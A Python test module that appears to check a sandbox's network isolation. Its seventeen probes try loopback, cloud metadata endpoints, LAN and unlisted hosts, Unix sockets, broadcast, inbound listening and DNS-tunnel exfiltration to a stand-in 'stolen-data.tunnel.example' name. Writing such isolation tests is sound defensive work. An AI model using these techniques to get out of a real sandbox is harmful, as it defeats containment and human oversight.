"""The network past the gate: nothing outside may be reached by an address, a name, or a local socket."""

from __future__ import annotations

import os
import select
import socket
import struct
from typing import Final

from tests.real.escape.inside.kit import There, patient, probe

WAIT_S: Final = 4.0
LISTEN_S: Final = 3.0


def _connects(host: str, port: int, family: int = socket.AF_INET) -> str:
    """Words when the decoy answers; a gate that takes the connection and then ends it has let nothing through."""
    with socket.socket(family) as sock:
        sock.settimeout(patient(WAIT_S))
        sock.connect((host, port))
        sock.send(b"hello\n")
        return "reached it" if sock.recv(64).startswith(b"DECOY") else ""


def _echoes(host: str, port: int, data: bytes, family: int = socket.AF_INET) -> str:
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(patient(WAIT_S))
        sock.sendto(data, (host, port))
        return "answered" if b"DECOY" in sock.recv(512) else ""


def question(name: str, kind: int = 1) -> bytes:
    """A DNS question."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


@probe("N01", "the host's loopback")
def _(there: There) -> str:
    return _connects("127.0.0.1", there.at["loopback_port"])


@probe("N02", "the cloud's metadata address")
def _(there: There) -> str:
    return _connects(there.at["metadata"], 80)


@probe("N03", "a machine of the local network")
def _(there: There) -> str:
    return _connects(there.at["lan"], 80)


@probe("N04", "a public machine that is not listed")
def _(there: There) -> str:
    return _connects(there.at["other"], 80)


@probe("N05", "a listed host by its address")
def _(there: There) -> str:
    return _connects(there.at["listed"], 80)


@probe("N06", "the host's loopback over IPv6")
def _(there: There) -> str:
    return _connects("::1", there.at["loopback_port"], socket.AF_INET6)


@probe("N07", "a datagram out")
def _(there: There) -> str:
    return _echoes(there.at["other"], there.at["udp_port"], b"hello")


@probe("N08", "carry data out in DNS questions")
def _(there: There) -> str:
    return _echoes(there.at["resolver"], 53, question("stolen-data.tunnel.example"))


@probe("N09", "an abstract socket of the host")
def _(there: There) -> str:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\0" + there.at["abstract"])
    return "connected"


@probe("N10", "a socket of the host in the file system")
def _(there: There) -> str:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(there.at["unix_socket"])
    return "connected"


@probe("N11", "serve the host's network")
def _(there: There) -> str:
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("0.0.0.0", there.at["listen_port"]))
        sock.listen()
        if not select.select([sock], [], [], patient(LISTEN_S))[0]:
            return ""
        with sock.accept()[0] as guest:  # whoever hangs up at once is not seen to have been there
            guest.settimeout(patient(WAIT_S))
            return "somebody came" if guest.recv(1) == b"" else "and said something"


@probe("N12", "metadata over IPv6")
def _(there: There) -> str:
    return _connects(there.at["metadata6"], 80, socket.AF_INET6)


@probe("N13", "an address of the host on its outer interface")
def _(there: There) -> str:
    return _connects(there.at["own"], there.at["loopback_port"])


@probe("N14", "the host by multicast or broadcast")
def _(there: There) -> str:
    for host in ("255.255.255.255", "224.0.0.251"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sock.settimeout(patient(0.3))
            try:
                sock.sendto(b"hello", (host, there.at["udp_port"]))
            except OSError:
                continue
            return f"sent to {host}"
    return ""


@probe("N15", "a loopback address in another spelling (0.0.0.0, mapped IPv6)")
def _(there: There) -> str:
    for host, family in (("0.0.0.0", socket.AF_INET), ("::ffff:127.0.0.1", socket.AF_INET6)):
        try:
            if _connects(host, there.at["loopback_port"], family):
                return host
        except OSError:
            continue
    return ""


@probe("N16", "carry data out as labels, text records or IPv6 questions to any resolver we have")
def _(there: There) -> str:
    before = there.at["tunnel_name"]
    for kind in (1, 16, 28):
        try:
            if _echoes("127.0.0.1", 53, question(f"x{kind}.{before}", kind)):
                return f"record {kind}"
        except OSError:
            continue
    return ""


@probe("N17", "the host's names resolve")
def _(there: There) -> str:
    found = socket.gethostbyname(there.at["host_alias"])
    return f"as {found}" if found and os.getpid() else ""
